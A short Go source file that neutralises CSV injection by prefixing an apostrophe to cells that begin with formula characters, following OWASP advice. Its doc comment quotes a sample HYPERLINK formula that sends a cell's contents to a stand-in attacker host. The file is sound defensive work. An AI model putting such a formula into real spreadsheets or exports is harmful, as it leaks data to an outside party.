package outputs

// CSVCell neutralises a cell a spreadsheet would run as a formula: text
// starting with '=', '+', '-', '@', a tab or a carriage return gets a
// leading "'" (OWASP's CSV injection advice), so
// =HYPERLINK("http://evil.example/?"&A1,"click") is shown, not run. Every
// other cell is unchanged; JSON Lines outputs are never altered.
func CSVCell(s string) string {
	if s == "" {
		return s
	}
	switch s[0] {
	case '=', '+', '-', '@', '\t', '\r':
		return "'" + s
	}
	return s
}

// CSVRow applies CSVCell to every cell of a row, in place.
func CSVRow(cells []string) []string {
	for i, c := range cells {
		cells[i] = CSVCell(c)
	}
	return cells
}

// writeFile writes data to a new output file (createOutput).
func writeFile(path string, data []byte) error {
	f, err := createOutput(path)
	if err != nil {
		return err
	}
	_, err = f.Write(data)
	if cerr := f.Close(); err == nil {
		err = cerr
	}
	return err
}
